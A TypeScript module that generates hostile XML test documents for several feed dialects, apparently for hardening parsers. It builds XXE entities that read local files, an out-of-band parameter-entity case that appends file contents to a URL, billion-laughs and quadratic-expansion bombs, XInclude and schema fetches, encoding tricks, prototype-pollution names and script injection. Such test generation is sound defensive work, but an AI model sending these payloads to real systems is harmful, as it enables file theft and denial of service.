import { dialects, document, type Dialect } from '../formats/xml.ts'
import type { Ideas } from '../hostile-case.ts'

const DEEP = 100_000

const doctype = (root: string, subset: string, outside = ''): string => `<!DOCTYPE ${root} ${outside}[${subset}]>\n`

const laughs = (levels: number, times: number): string =>
  Array.from(
    { length: levels },
    (_, at) => `<!ENTITY l${at} "${at === 0 ? 'ha' : `&l${at - 1};`.repeat(times)}">`,
  ).join('\n')

/** What each dialect of XML can be made to do. */
export function xmlCases(dialect: Dialect): Ideas {
  const { root } = dialect
  const make =
    (parts: Parameters<typeof document>[2]): Ideas[string] =>
    (words) =>
      document(dialect, words, parts)
  const encoded =
    (declared: string, bytes: (text: string) => Buffer): Ideas[string] =>
    (words) =>
      bytes(document(dialect, words, { declaration: `<?xml version="1.0" encoding="${declared}"?>\n` }))
  const lured = (parts: (path: string, url: string) => Parameters<typeof document>[2]): Ideas[string] => {
    return (words, { path, url }) => document(dialect, words, parts(path, url))
  }
  return {
    'external-entity-of-a-file': lured((path) => ({
      prolog: doctype(root, `<!ENTITY x SYSTEM "file://${path}">`),
      more: '&x;',
    })),
    'external-entity-of-an-address': lured((_, url) => ({
      prolog: doctype(root, `<!ENTITY x SYSTEM "${url}entity">`),
      more: '&x;',
    })),
    'public-entity': lured((path, url) => ({
      prolog: doctype(root, `<!ENTITY x PUBLIC "-//X" "${url}public"><!ENTITY y SYSTEM "${path}">`),
      more: '&x;&y;',
    })),
    'external-dtd-of-a-file': lured((path) => ({ prolog: `<!DOCTYPE ${root} SYSTEM "file://${path}">\n` })),
    'external-dtd-of-an-address': lured((_, url) => ({ prolog: `<!DOCTYPE ${root} SYSTEM "${url}dtd">\n` })),
    'parameter-entity': lured((path, url) => ({
      prolog: doctype(root, `<!ENTITY % f SYSTEM "file://${path}"><!ENTITY % d SYSTEM "${url}d">%d;%f;`),
    })),
    'entity-out-of-band': lured((path, url) => ({
      prolog: doctype(
        root,
        `<!ENTITY % f SYSTEM "file://${path}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${url}?%f;'>">%e;%s;`,
      ),
    })),
    'entity-in-an-attribute': lured((path) => ({
      prolog: doctype(root, `<!ENTITY x SYSTEM "file://${path}">`),
      also: ' id="&x;"',
    })),
    'billion-laughs': make({ prolog: doctype(root, laughs(10, 10)), more: '&l9;' }),
    'billion-laughs-in-an-attribute': make({ prolog: doctype(root, laughs(10, 10)), also: ' a="&l9;"' }),
    'laughs-of-a-million-levels': make({ prolog: doctype(root, laughs(5_000, 1)), more: '&l4999;' }),
    'quadratic-entities': make({
      prolog: doctype(root, `<!ENTITY a "${'a'.repeat(100_000)}">`),
      more: '&a;'.repeat(20_000),
    }),
    'an-entity-of-itself': make({ prolog: doctype(root, '<!ENTITY a "&b;"><!ENTITY b "&a;">'), more: '&a;' }),
    'entities-that-are-known': make({
      prolog: doctype(root, '<!ENTITY lt "&#38;#60;"><!ENTITY amp "x">'),
      more: '&lt;&amp;',
    }),
    'an-internal-subset-left-open': make({ prolog: `<!DOCTYPE ${root} [<!ENTITY a "` }),
    'a-subset-of-five-megabytes': make({ prolog: doctype(root, '<!ELEMENT a (b)>'.repeat(300_000)) }),
    'a-doctype-in-a-comment': make({ prolog: `<!--<!DOCTYPE x [<!ENTITY a "b">]>-->`, more: '&a;' }),
    'a-doctype-after-the-root': lured((path) => ({ after: `<!DOCTYPE ${root} SYSTEM "file://${path}">` })),
    'doctype-of-html': make({ prolog: '<!DOCTYPE html>\n' }),
    'attribute-defaults': make({
      prolog: doctype(root, `<!ATTLIST ${root} polluted CDATA "yes" xmlns CDATA "urn:x">`),
    }),
    'notation-and-unparsed': lured((path) => ({
      prolog: doctype(root, `<!NOTATION n SYSTEM "file://${path}"><!ENTITY u SYSTEM "file://${path}" NDATA n>`),
      more: '&u;',
    })),
    xinclude: lured((path, url) => ({
      more: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${path}"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}xi"/>`,
    })),
    'schema-location': lured((path, url) => ({
      also: ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${url}xsd file://${path}" xsi:noNamespaceSchemaLocation="${url}no"`,
    })),
    stylesheet: lured((path, url) => ({
      prolog: `<?xml-stylesheet type="text/xsl" href="${url}xsl"?><?xml-stylesheet href="file://${path}"?>`,
    })),
    'base-of-a-file': lured((path) => ({ also: ` xml:base="file://${path}"`, more: '<a href="">here</a>' })),
    'links-that-lure': lured((path, url) => ({
      more: `<a href="${url}a">a</a><img src="${url}b"/><link href="file://${path}"/><enclosure url="${url}c" type="text/html" length="9"/>`,
    })),
    'scripts-in-the-text': make({
      more: '&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(2)</script><svg onload="alert(3)"/>',
    }),
    'elements-in-elements': make({ more: `${'<a>'.repeat(DEEP)}x${'</a>'.repeat(DEEP)}` }),
    'elements-left-open': make({ more: '<a>'.repeat(DEEP) }),
    'the-root-in-itself': () => `<${root}>`.repeat(50_000),
    'ends-without-beginnings': make({ more: '</a>'.repeat(10_000) }),
    'markup-in-a-text-of-depth': make({ more: '&lt;div&gt;'.repeat(50_000) }),
    'a-hundred-thousand-attributes': make({ also: Array.from({ length: 100_000 }, (_, at) => ` a${at}="b"`).join('') }),
    'an-attribute-of-five-megabytes': make({ also: ` a="${'b'.repeat(5_000_000)}"` }),
    'a-name-of-a-megabyte': make({ more: `<${'n'.repeat(1_000_000)}/>` }),
    'a-hundred-thousand-namespaces': make({
      also: Array.from({ length: 50_000 }, (_, at) => ` xmlns:n${at}="urn:${at}"`).join(''),
    }),
    'namespaces-at-every-depth': make({
      more: `${Array.from({ length: 3_000 }, (_, at) => `<n${at}:a xmlns:n${at}="urn:${at}">`).join('')}`,
    }),
    'a-prefix-unbound': make({ more: '<nobody:knows/>' }),
    'xmlns-of-xml': make({ also: ' xmlns:xml="urn:x" xmlns:xmlns="urn:y"' }),
    'an-attribute-twice': make({ also: ' twice="1" twice="2"' }),
    'names-of-prototypes': make({
      also: ' __proto__="x" constructor="y"',
      more: '<__proto__ polluted="1"/><constructor/><toString/>',
    }),
    'a-section-left-open': make({ more: '<![CDATA[' }),
    'sections-in-a-row': make({ more: '<![CDATA[x]]>'.repeat(100_000) }),
    'an-end-of-a-section': make({ more: ']]>' }),
    'a-comment-left-open': make({ more: '<!--' }),
    'dashes-in-a-comment': make({ more: `<!--${'-'.repeat(1_000_000)}-->` }),
    'an-instruction-left-open': make({ more: '<?a' }),
    'a-million-references': make({ more: '&#65;'.repeat(1_000_000) }),
    'references-to-nothing': make({ more: '&#0;&#x110000;&#xD800;&#xFFFE;&#-1;&#x;&nosuch;&;' }),
    'a-reference-of-a-megabyte': make({ more: `&#${'1'.repeat(1_000_000)};` }),
    'a-name-of-a-reference-of-a-megabyte': make({ more: `&${'n'.repeat(1_000_000)};` }),
    'two-roots': make({ after: `<${root}/>` }),
    'words-after-the-root': make({ after: 'words' }),
    'words-before-the-declaration': (words) => `words ${document(dialect, words)}`,
    'breaks-before-the-declaration': (words) => `${'\n'.repeat(1_000_000)}${document(dialect, words)}`,
    'a-declaration-twice': make({ prolog: '<?xml version="1.0"?>' }),
    'version-1-1': make({ declaration: '<?xml version="1.1"?>', more: '&#1;\u0085' }),
    'version-9-9': make({ declaration: '<?xml version="9.9" standalone="maybe"?>' }),
    'utf-16-said-and-not-done': encoded('UTF-16', (text) => Buffer.from(text)),
    'utf-8-said-and-utf-16-done': encoded('UTF-8', (text) => Buffer.from(text, 'utf16le')),
    'utf-16-with-an-entity': (words, { path }) =>
      Buffer.from(
        `\ufeff${document(dialect, words, { declaration: '<?xml version="1.0" encoding="UTF-16"?>', prolog: doctype(root, `<!ENTITY x SYSTEM "file://${path}">`), more: '&x;' })}`,
        'utf16le',
      ),
    'utf-7-with-an-entity': (words, { path }) =>
      document(dialect, words, {
        declaration: '<?xml version="1.0" encoding="UTF-7"?>',
        prolog: `+ADwAIQ-DOCTYPE ${root} +AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file://${path}+ACI-+AD4-+AF0-+AD4-`,
        more: '&x;',
      }),
    'an-encoding-nobody-knows': encoded('x-unheard-of', (text) => Buffer.from(text)),
    'an-encoding-of-a-megabyte': encoded('x'.repeat(1_000_000), (text) => Buffer.from(text)),
    'ebcdic-said': encoded('IBM037', (text) => Buffer.from(text)),
    'a-megabyte-of-breaks-in-a-tag': make({ also: '\n'.repeat(1_000_000) }),
    'mixed-endings': make({ more: '<A></a><B></b>' }),
    'an-attribute-without-quotes': make({ also: ' a=b c' }),
    'less-than-in-an-attribute': make({ also: ' a="<b>"' }),
    'nothing-but-the-root': () => `<${root}/>`,
    'the-root-left-open': () => `<${root} ${dialect.attributes}>`,
    'ten-thousand-articles': (words) => {
      const whole = document(dialect, words)
      const item =
        /<item>[^]*<\/item>|<entry>[^]*<\/entry>|<NewsItem>[^]*<\/NewsItem>|<p>[^]*<\/p>/.exec(whole)?.[0] ?? ''
      return whole.replace(item, () => item.repeat(2_000))
    },
  }
}

export const xmlIdeas: Readonly<Record<string, Ideas>> = Object.fromEntries(
  dialects.map((dialect) => [dialect.name, xmlCases(dialect)]),
)
